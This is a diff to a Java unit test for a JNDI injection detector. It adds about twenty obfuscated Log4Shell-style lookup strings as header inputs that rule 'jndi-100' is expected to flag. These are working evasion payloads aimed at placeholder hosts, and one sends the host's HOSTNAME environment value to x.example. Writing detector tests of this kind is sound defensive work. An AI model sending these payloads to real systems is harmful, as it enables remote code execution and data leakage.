@@ -122,7 +122,28 @@ class JndiDetectorTest {
         a(
             Placement.HEADER,
             "%2524%257B%2524%257Blower%253Aj%257Dndi%253Aldap%253A%252F%252Fx.example%252Fdd%257D",
-            "jndi-100"));
+            "jndi-100"),
+        a(Placement.HEADER, "${jndi:ldap:/x.example/a}", "jndi-100"),
+        a(Placement.HEADER, "${${::-j}nd${::-i}:ldap://x}", "jndi-100"),
+        a(Placement.HEADER, "${${sys:sun.cpu.isalist}jndi:ldap://x}", "jndi-100"),
+        a(Placement.HEADER, "$%7Bjndi:ldap://x%7D", "jndi-100"),
+        a(Placement.HEADER, "${\\u006a\\u006e\\u0064\\u0069:ldap://x}", "jndi-100"),
+        a(Placement.HEADER, "${jndi:rmi://[::1]:1099/a}", "jndi-100"),
+        a(Placement.HEADER, "${${lower:jnd}${lower:i}:ldap://x}", "jndi-100"),
+        a(Placement.HEADER, "${${lower:${lower:jndi}}:${lower:rmi}://x}", "jndi-100"),
+        a(Placement.HEADER, "${${env:ENV_NAME:-j}ndi:ldap://x}", "jndi-100"),
+        a(Placement.HEADER, "${jndi:ldap://x.example/${env:HOSTNAME}}", "jndi-100"),
+        a(
+            Placement.HEADER,
+            "${${::-J}${::-N}${::-D}${::-I}:${::-L}${::-D}${::-A}${::-P}://x/}",
+            "jndi-100"),
+        a(Placement.HEADER, "${${upper:${::-j}}ndi:ldap://x/}", "jndi-100"),
+        a(Placement.HEADER, "${${date:'J'}ndi:ldap://x/}", "jndi-100"),
+        a(Placement.HEADER, "${ ${lower:j}ndi:ldap://x/}", "jndi-100"),
+        a(Placement.HEADER, "${jndi:${lower:ldap}://x/}", "jndi-100"),
+        a(Placement.HEADER, "${jndi:dns://x/}${jndi:ldap://y/}", "jndi-100"),
+        a(Placement.HEADER, "aaaa ${jndi:ldap://x/} bbbb", "jndi-100"),
+        a(Placement.HEADER, "${jndi:ldap://x/} ${jndi:rmi://y/}", "jndi-100"));
   }
 
   static Stream<Arguments> benign() {
